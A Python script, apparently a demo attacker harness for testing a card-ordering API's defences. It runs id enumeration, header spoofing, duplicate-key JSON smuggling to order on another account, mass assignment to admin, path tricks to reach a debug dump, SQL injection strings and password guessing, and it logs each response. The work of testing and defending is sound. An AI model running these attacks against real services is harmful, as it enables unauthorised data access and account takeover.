"""The attacker: has the app from the store, its key pulled out of it, and one ordinary account. Nothing else.

A script of its own (`python -m firstclass.demo.attacker`), standard library only: it reads a base URL, the app's key
and one e-mail with password as JSON from stdin, discovers every id itself, and keeps every byte that it receives, one
file for each step, for others to judge. It cannot tell whether anything stands before the API.
"""

from __future__ import annotations

import json
import sys
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote

from firstclass.demo.connection import Answer, Connection

MISSES_AFTER_WHICH_IDS_END = 500
CARDS_TO_TRY = 300
INJECTIONS = (
    "' OR 1=1 --",
    "x' OR TRUE --",
    "x' OR name > '",
    "%' OR '1' LIKE '1",
    "x' UNION SELECT * FROM customers --",
)
PASSWORDS_TO_TRY = 30


@dataclass
class Step:
    """What one step asked and how it was answered; the bytes are in the file of the same name."""

    name: str
    calls: int = 0
    statuses: Counter[int] = field(default_factory=Counter)
    reasons: Counter[str] = field(default_factory=Counter)
    lengths: list[int] = field(default_factory=list)
    first_status: int = 0
    first_reason: str | None = None
    first_request_id: str | None = None


class Attacker:
    """One run against one base URL."""

    def __init__(self, base_url: str, app_key: str, output: Path) -> None:
        self._connection = Connection(base_url)
        self._base_url = base_url
        self._headers = {"X-API-Key": app_key, "Accept": "application/json"}
        self._output = output
        self._token: dict[str, str] = {}
        self.steps: dict[str, Step] = {}
        self.own_id = 0
        self.own_name = ""
        self.own_card = 0

    def call(self, name: str, method: str, target: str, body: Any = None, **more: str) -> Answer:
        """One call of a step, noted and kept."""
        step = self.steps.setdefault(name, Step(name))
        sent = body if body is None or isinstance(body, bytes) else json.dumps(body).encode()
        answer = self._connection.call(method, target, {**self._headers, **self._token, **more}, sent)
        received = answer.head + b"\r\n\r\n" + answer.body
        step.lengths.append(len(received))
        with (self._output / name).open("ab") as file:
            file.write(received)
        if not step.calls:
            step.first_status, step.first_reason = answer.status, answer.reason
            step.first_request_id = answer.header("X-Request-Id")
        step.calls += 1
        step.statuses[answer.status] += 1
        if answer.reason:
            step.reasons[answer.reason] += 1
        return answer

    def sign_in(self, email: str, password: str) -> None:
        """Sign in as anybody would; the answer says one's own id."""
        answer = self.call("sign_in", "POST", "/sign-in", {"email": email, "password": password}).json()
        self.own_id, self.own_name = int(answer["customer"]["id"]), str(answer["customer"]["name"])
        self._token = {"Authorization": f"Bearer {answer['token']}"}

    def read_own(self) -> None:
        """What the account is for."""
        answer = self.call("own_cards", "GET", f"/customers/{self.own_id}/cards").json()
        self.own_card = int(answer["cards"][0]["id"])
        self.call("own_data", "GET", f"/customers/{self.own_id}")
        self.call("own_data", "GET", f"/customers?name={quote(self.own_name)}")
        self.call("own_data", "GET", "/designs")
        self.call("own_data", "POST", "/orders", {"customerId": self.own_id, "cardId": self.own_card, "quantity": 1})

    def walk_ids(self) -> None:
        """Attack 1: count outwards from one's own id until the ids end; then the other ways to the same objects."""
        self._count_from(self.own_id + 1, 1)
        self._count_from(self.own_id - 1, -1)
        other = self.own_id + 1
        spellings = (
            f"%3{str(other)[0]}{str(other)[1:]}",
            f"0{other}",
            f"{other}.0",
            f"{other}/",
            f"{other};x",
            f"{self.own_id}/../{other}",
        )
        for spelling in spellings:
            self.call("walk", "GET", f"/customers/{spelling}")
            self.call("walk", "GET", f"/customers/{spelling}/cards")
        self.call("walk", "GET", f"//customers/{other}")
        self.call("walk", "GET", f"/customers/{self.own_id}", **{"X-Original-URL": f"/customers/{other}"})
        self.call("walk", "GET", f"/customers/{other}", **{"Firstclass-Subject": str(other), "X-User-Id": str(other)})
        for card in range(1, CARDS_TO_TRY + 1):
            self.call("walk", "GET", f"/cards/{card}")

    def _count_from(self, start: int, direction: int) -> None:
        number, misses = start, 0
        while number > 0 and (misses < MISSES_AFTER_WHICH_IDS_END or direction < 0):
            answer = self.call("walk", "GET", f"/customers/{number}")
            misses = 0 if answer.status == 200 else misses + 1
            number += direction

    def order_on_neighbour(self) -> None:
        """Attack 2: an order on somebody else's account, plainly and with the id said twice."""
        other = self.own_id + 1
        self.call("order", "POST", "/orders", {"customerId": other, "cardId": self.own_card, "quantity": 1})
        twice = f'{{"customerId": {self.own_id}, "cardId": {self.own_card}, "customerId": {other}}}'
        self.call("order", "POST", "/orders", twice.encode())
        escaped = f'{{"customerId": {self.own_id}, "cardId": {self.own_card}, "customer\\u0049d": {other}}}'
        self.call("order", "POST", "/orders", escaped.encode())
        self.call("order", "POST", "/orders", {"customerId": str(other), "cardId": self.own_card})

    def become_admin(self) -> None:
        """Attack 4: a property that nobody offered, alone, in company, and hidden."""
        target = f"/customers/{self.own_id}"
        self.call("admin", "PATCH", target, {"role": "admin"})
        self.call("admin", "PATCH", target, {"name": self.own_name, "role": "admin"})
        self.call("admin", "PATCH", target, b'{"r\\u006fle": "admin"}')
        self.call("admin", "PATCH", target, {"Role": "admin"})
        self.call("admin", "POST", target, {"role": "admin"}, **{"X-HTTP-Method-Override": "PATCH"})

    def dump(self) -> None:
        """Attack 5: an operation that somebody left in, under some of its spellings."""
        for target in (
            "/debug/dump",
            "/debug/dump/",
            "//debug/dump",
            "/designs/../debug/dump",
            "/%64ebug/dump",
            "/debug%2fdump",
        ):
            self.call("debug", "GET", target)
        self.call("debug", "POST", "/debug/dump", b"{}")
        self.call("debug", "GET", "/designs", **{"X-Original-URL": "/debug/dump", "X-Rewrite-URL": "/debug/dump"})

    def inject(self) -> None:
        """Attack 6: SQL in a parameter, said once and twice."""
        for text in INJECTIONS:
            self.call("inject", "GET", f"/customers?name={quote(text)}")
        self.call("inject", "GET", f"/customers?name={quote(INJECTIONS[0])}&name={quote(self.own_name)}")
        self.call("inject", "GET", f"/customers?name={quote(self.own_name)}&name={quote(INJECTIONS[0])}")

    def try_the_rest(self, email: str) -> None:
        """What the six attacks leave out: replay what was sniffed, and guess passwords."""
        self._connection.close()
        self._connection = Connection(self._base_url)
        self.call("replay", "GET", f"/customers/{self.own_id}/cards")
        for number in range(PASSWORDS_TO_TRY):
            self.call("guess", "POST", "/sign-in", {"email": email, "password": f"guess {number}"})


def main() -> None:
    """Read the task from stdin, attack, write what was learnt to stdout as JSON."""
    task = json.load(sys.stdin)
    attacker = Attacker(task["base_url"], task["app_key"], Path(task["output"]))
    attacker.sign_in(task["email"], task["password"])
    attacker.read_own()
    attacker.walk_ids()
    attacker.order_on_neighbour()
    attacker.become_admin()
    attacker.dump()
    attacker.inject()
    attacker.try_the_rest(task["email"])
    json.dump(
        {"own_id": attacker.own_id, "steps": {name: vars(step) for name, step in attacker.steps.items()}}, sys.stdout
    )


if __name__ == "__main__":
    main()
